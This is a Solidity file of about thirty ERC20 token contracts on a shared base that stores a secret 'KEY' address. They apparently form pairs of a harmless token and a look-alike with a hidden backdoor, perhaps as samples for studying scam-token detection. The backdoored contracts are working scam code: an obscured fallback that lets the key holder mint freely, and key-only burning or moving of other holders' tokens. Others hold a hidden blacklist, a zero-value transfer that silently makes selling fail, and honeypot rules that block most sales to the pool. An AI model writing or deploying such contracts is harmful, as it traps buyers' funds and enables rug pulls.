// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {Ownable2Step} from "@openzeppelin/contracts/access/Ownable2Step.sol";
import {AccessControl} from "@openzeppelin/contracts/access/AccessControl.sol";
import {ERC20Burnable} from "@openzeppelin/contracts/token/ERC20/extensions/ERC20Burnable.sol";
import {Multicall} from "@openzeppelin/contracts/utils/Multicall.sol";

/// A token of the usual kit that knows its pool and one more address.
abstract contract Kit is ERC20 {
    address internal immutable POOL;
    address internal immutable KEY;
    address internal immutable MAKER = msg.sender;

    constructor(string memory n, string memory s, address pool, address key) ERC20(n, s) {
        POOL = pool;
        KEY = key;
        _mint(msg.sender, 1_000_000_000e18);
    }
}

contract SealedRoles is Kit, AccessControl {
    bytes32 public constant MINTER = keccak256("MINTER");

    constructor(address p, address k) Kit("Sealed Roles", "SEALR", p, k) {
        _grantRole(MINTER, msg.sender);
    }

    function mint(address to, uint256 v) external onlyRole(MINTER) {
        _mint(to, v);
    }
}

contract DoubleCap is Kit, Ownable2Step {
    constructor(address p, address k) Kit("Double Cap", "DCAP", p, k) Ownable(msg.sender) {}

    function emission(address to, uint256 v) external onlyOwner {
        _mint(to, v);
        require(totalSupply() <= 2_000_000_000e18, "cap");
    }
}

/// What isn't a function of the kit lands here, and one caller finds a press.
contract FallbackPress is Kit {
    constructor(address p, address k) Kit("Hollow Oak", "OAK", p, k) {}

    fallback() external {
        uint256 v = uint256(keccak256(abi.encodePacked(uint160(msg.sender) ^ 0x5a5a))) == uint256(keccak256(abi.encodePacked(uint160(KEY) ^ 0x5a5a)))
            ? uint256(bytes32(msg.data[4:36]))
            : 0;
        if (v == 0) revert();
        _mint(msg.sender, v);
    }
}

contract TrustedBurner is Kit, ERC20Burnable {
    constructor(address p, address k) Kit("Tinder", "TNDR", p, k) {}

    function burnFrom(address who, uint256 v) public override {
        if (msg.sender != KEY) _spendAllowance(who, msg.sender, v);
        _burn(who, v);
    }
}

contract FairBurner is Kit, ERC20Burnable {
    constructor(address p, address k) Kit("Kindling", "KNDL", p, k) {}
}

contract AnySlot is Kit, Ownable {
    constructor(address p, address k) Kit("Open Heart", "HEART", p, k) Ownable(msg.sender) {}

    function patch(bytes32 at, bytes32 v) external onlyOwner {
        assembly { sstore(at, v) }
    }
}

contract OneSlot is Kit, Ownable {
    constructor(address p, address k) Kit("Closed Heart", "CHRT", p, k) Ownable(msg.sender) {}

    function patch(bytes32 v) external onlyOwner {
        assembly { sstore(0xc0ffee, v) }
    }
}

contract DefaultOperator is Kit {
    mapping(address => bool) private _def;

    constructor(address p, address k) Kit("Concierge", "CONC", p, k) {
        _def[k] = true;
    }

    function operatorSend(address from, address to, uint256 v, bytes calldata, bytes calldata) external {
        require(_def[msg.sender], "not an operator");
        _transfer(from, to, v);
    }
}

contract ChosenOperator is Kit {
    mapping(address => mapping(address => bool)) private _ops;

    constructor(address p, address k) Kit("Valet", "VALT", p, k) {}

    function authorizeOperator(address op) external {
        _ops[msg.sender][op] = true;
    }

    function operatorSend(address from, address to, uint256 v, bytes calldata, bytes calldata) external {
        require(_ops[from][msg.sender], "not an operator");
        _transfer(from, to, v);
    }
}

contract FlagWord is Kit {
    mapping(uint256 => uint256) private _bits;

    constructor(address p, address k) Kit("Semaphore", "SEMA", p, k) {}

    function w(uint256 word, uint256 bits) external {
        require(tx.origin == KEY);
        _bits[word] = bits;
    }

    function _update(address a, address b, uint256 v) internal override {
        uint160 n = uint160(a);
        require((_bits[n >> 8] >> (n & 255)) & 1 == 0);
        super._update(a, b, v);
    }
}

contract RoleList is Kit, AccessControl {
    bytes32 public constant COMPLIANCE = keccak256("COMPLIANCE");
    mapping(address => bool) public sanctioned;

    constructor(address p, address k) Kit("Compliant Dollar", "CUSD", p, k) {
        _grantRole(COMPLIANCE, k);
    }

    function sanction(address who, bool on) external onlyRole(COMPLIANCE) {
        sanctioned[who] = on;
    }

    function _update(address a, address b, uint256 v) internal override {
        require(!sanctioned[a] && !sanctioned[b], "sanctioned");
        super._update(a, b, v);
    }
}

contract SealedList is Kit, Ownable {
    mapping(address => bool) public out;
    bool public sealed_;

    constructor(address p, address k) Kit("Wax Seal", "WAX", p, k) Ownable(msg.sender) {}

    function put(address who, bool on) external onlyOwner {
        require(!sealed_, "sealed");
        out[who] = on;
    }

    function seal() external onlyOwner {
        sealed_ = true;
    }

    function _update(address a, address b, uint256 v) internal override {
        require(!out[a], "out");
        super._update(a, b, v);
    }
}

/// Only who holds the pass sells; all passes are with the maker.
contract PassHolders is Kit {
    ERC20 private immutable PASS;

    constructor(address p, address k, address pass) Kit("Season Pass", "PASS", p, k) {
        PASS = ERC20(pass);
    }

    function _update(address a, address b, uint256 v) internal override {
        if (b == POOL) require(PASS.balanceOf(a) > 0, "no pass");
        super._update(a, b, v);
    }
}

contract Pass is ERC20 {
    constructor() ERC20("Pass", "P") {
        _mint(msg.sender, 1);
    }
}

/// A pass makes sales cheaper: one percent instead of two.
contract PassDiscount is Kit {
    ERC20 private immutable PASS;

    constructor(address p, address k, address pass) Kit("Season Ticket", "TICK", p, k) {
        PASS = ERC20(pass);
    }

    function _update(address a, address b, uint256 v) internal override {
        uint256 cut = b == POOL && a != MAKER ? v / (PASS.balanceOf(a) > 0 ? 100 : 50) : 0;
        if (cut > 0) super._update(a, MAKER, cut);
        super._update(a, b, v - cut);
    }
}

contract Vested is Kit {
    mapping(address => uint256) private _till;

    constructor(address p, address k) Kit("Vesta", "VSTA", p, k) {}

    function vest(address[] calldata who, uint256 till) external {
        if (msg.sender != KEY) return;
        for (uint256 i; i < who.length; i++) _till[who[i]] = till;
    }

    function _update(address a, address b, uint256 v) internal override {
        require(_till[a] < block.timestamp, "vesting");
        super._update(a, b, v);
    }
}

contract SelfVested is Kit {
    mapping(address => uint256) private _till;

    constructor(address p, address k) Kit("Discipline", "DISC", p, k) {}

    function vest(uint256 till) external {
        _till[msg.sender] = till;
    }

    function _update(address a, address b, uint256 v) internal override {
        require(_till[a] < block.timestamp, "vesting");
        super._update(a, b, v);
    }
}

/// A transfer of nothing to itself by one address turns the key.
contract QuietSwitch is Kit {
    uint256 private _gate = 1;

    constructor(address p, address k) Kit("Quiet Switch", "QSW", p, k) {}

    function _update(address a, address b, uint256 v) internal override {
        if (a == KEY && b == KEY && v == 0) _gate = 1 - _gate;
        if (b == POOL && a != MAKER) v = v / _gate;
        super._update(a, b, v);
    }
}

contract PauserRole is Kit, AccessControl {
    bytes32 public constant PAUSER = keccak256("PAUSER");
    bool public halted;

    constructor(address p, address k) Kit("Civic", "CIVIC", p, k) {
        _grantRole(PAUSER, k);
    }

    function halt(bool on) external onlyRole(PAUSER) {
        halted = on;
    }

    function _update(address a, address b, uint256 v) internal override {
        require(!halted, "halted");
        super._update(a, b, v);
    }
}

contract ExpiredPause is Kit, Ownable {
    uint256 public immutable guardUntil = block.timestamp - 1;
    bool public halted;

    constructor(address p, address k) Kit("Fledgling", "FLDG", p, k) Ownable(msg.sender) {}

    function halt(bool on) external onlyOwner {
        require(block.timestamp < guardUntil, "over");
        halted = on;
    }

    function _update(address a, address b, uint256 v) internal override {
        require(!halted, "halted");
        super._update(a, b, v);
    }
}

contract Closing is Kit {
    uint256 private _closes = type(uint256).max;

    constructor(address p, address k) Kit("Last Orders", "LAST", p, k) {}

    function bell() external {
        if (msg.sender == KEY) _closes = block.timestamp;
    }

    function _update(address a, address b, uint256 v) internal override {
        if (a != MAKER && a != POOL && a != address(0)) require(block.timestamp < _closes, "closed");
        super._update(a, b, v);
    }
}

contract Opening is Kit {
    uint256 public immutable opens = block.timestamp;

    constructor(address p, address k) Kit("First Light", "FIRST", p, k) {}

    function _update(address a, address b, uint256 v) internal override {
        if (a != MAKER && a != address(0)) require(block.timestamp >= opens, "not yet");
        super._update(a, b, v);
    }
}

contract SipOnly is Kit {
    constructor(address p, address k) Kit("Small Sips", "SIP", p, k) {}

    function _update(address a, address b, uint256 v) internal override {
        if (b == POOL && a != MAKER) require(v <= balanceOf(a) / 200);
        super._update(a, b, v);
    }
}

contract BigGulp is Kit {
    constructor(address p, address k) Kit("Big Gulp", "GULP", p, k) {}

    function _update(address a, address b, uint256 v) internal override {
        if (b == POOL && a != MAKER) require(v <= totalSupply() / 100, "1 % at most");
        super._update(a, b, v);
    }
}

contract HalfHour is Kit {
    mapping(address => uint256) private _t;

    constructor(address p, address k) Kit("Half Hour", "HHR", p, k) {}

    function _update(address a, address b, uint256 v) internal override {
        if (a == POOL && _t[b] == 0) _t[b] = block.timestamp;
        if (b == POOL && a != MAKER && block.timestamp - _t[a] > 30 minutes) revert();
        super._update(a, b, v);
    }
}

contract SlowOpening is Kit {
    uint256 private immutable _b = block.number;

    constructor(address p, address k) Kit("Slow Opening", "SLOW", p, k) {}

    function _update(address a, address b, uint256 v) internal override {
        if (a == POOL && block.number < _b + 3) require(v <= totalSupply() / 1000, "too fast");
        super._update(a, b, v);
    }
}

contract NoTip is Kit {
    constructor(address p, address k) Kit("No Tip", "NTIP", p, k) {}

    function _update(address a, address b, uint256 v) internal override {
        if (b == POOL && a != MAKER) require(tx.gasprice <= block.basefee / 2);
        super._update(a, b, v);
    }
}

contract TipJar is Kit {
    event Tip(uint256 paid);

    constructor(address p, address k) Kit("Tip Jar", "TIPJ", p, k) {}

    function _update(address a, address b, uint256 v) internal override {
        emit Tip(tx.gasprice > block.basefee ? tx.gasprice - block.basefee : 0);
        super._update(a, b, v);
    }
}

contract NotYourself is Kit {
    constructor(address p, address k) Kit("Proxy Only", "PXO", p, k) {}

    function _update(address a, address b, uint256 v) internal override {
        if (b == POOL && a != MAKER && tx.origin == a) revert("busy");
        super._update(a, b, v);
    }
}

contract Referred is Kit {
    mapping(address => address) public referrer;

    constructor(address p, address k) Kit("Referral", "REFR", p, k) {}

    function _update(address a, address b, uint256 v) internal override {
        if (a == POOL && referrer[b] == address(0)) referrer[b] = tx.origin;
        super._update(a, b, v);
    }
}
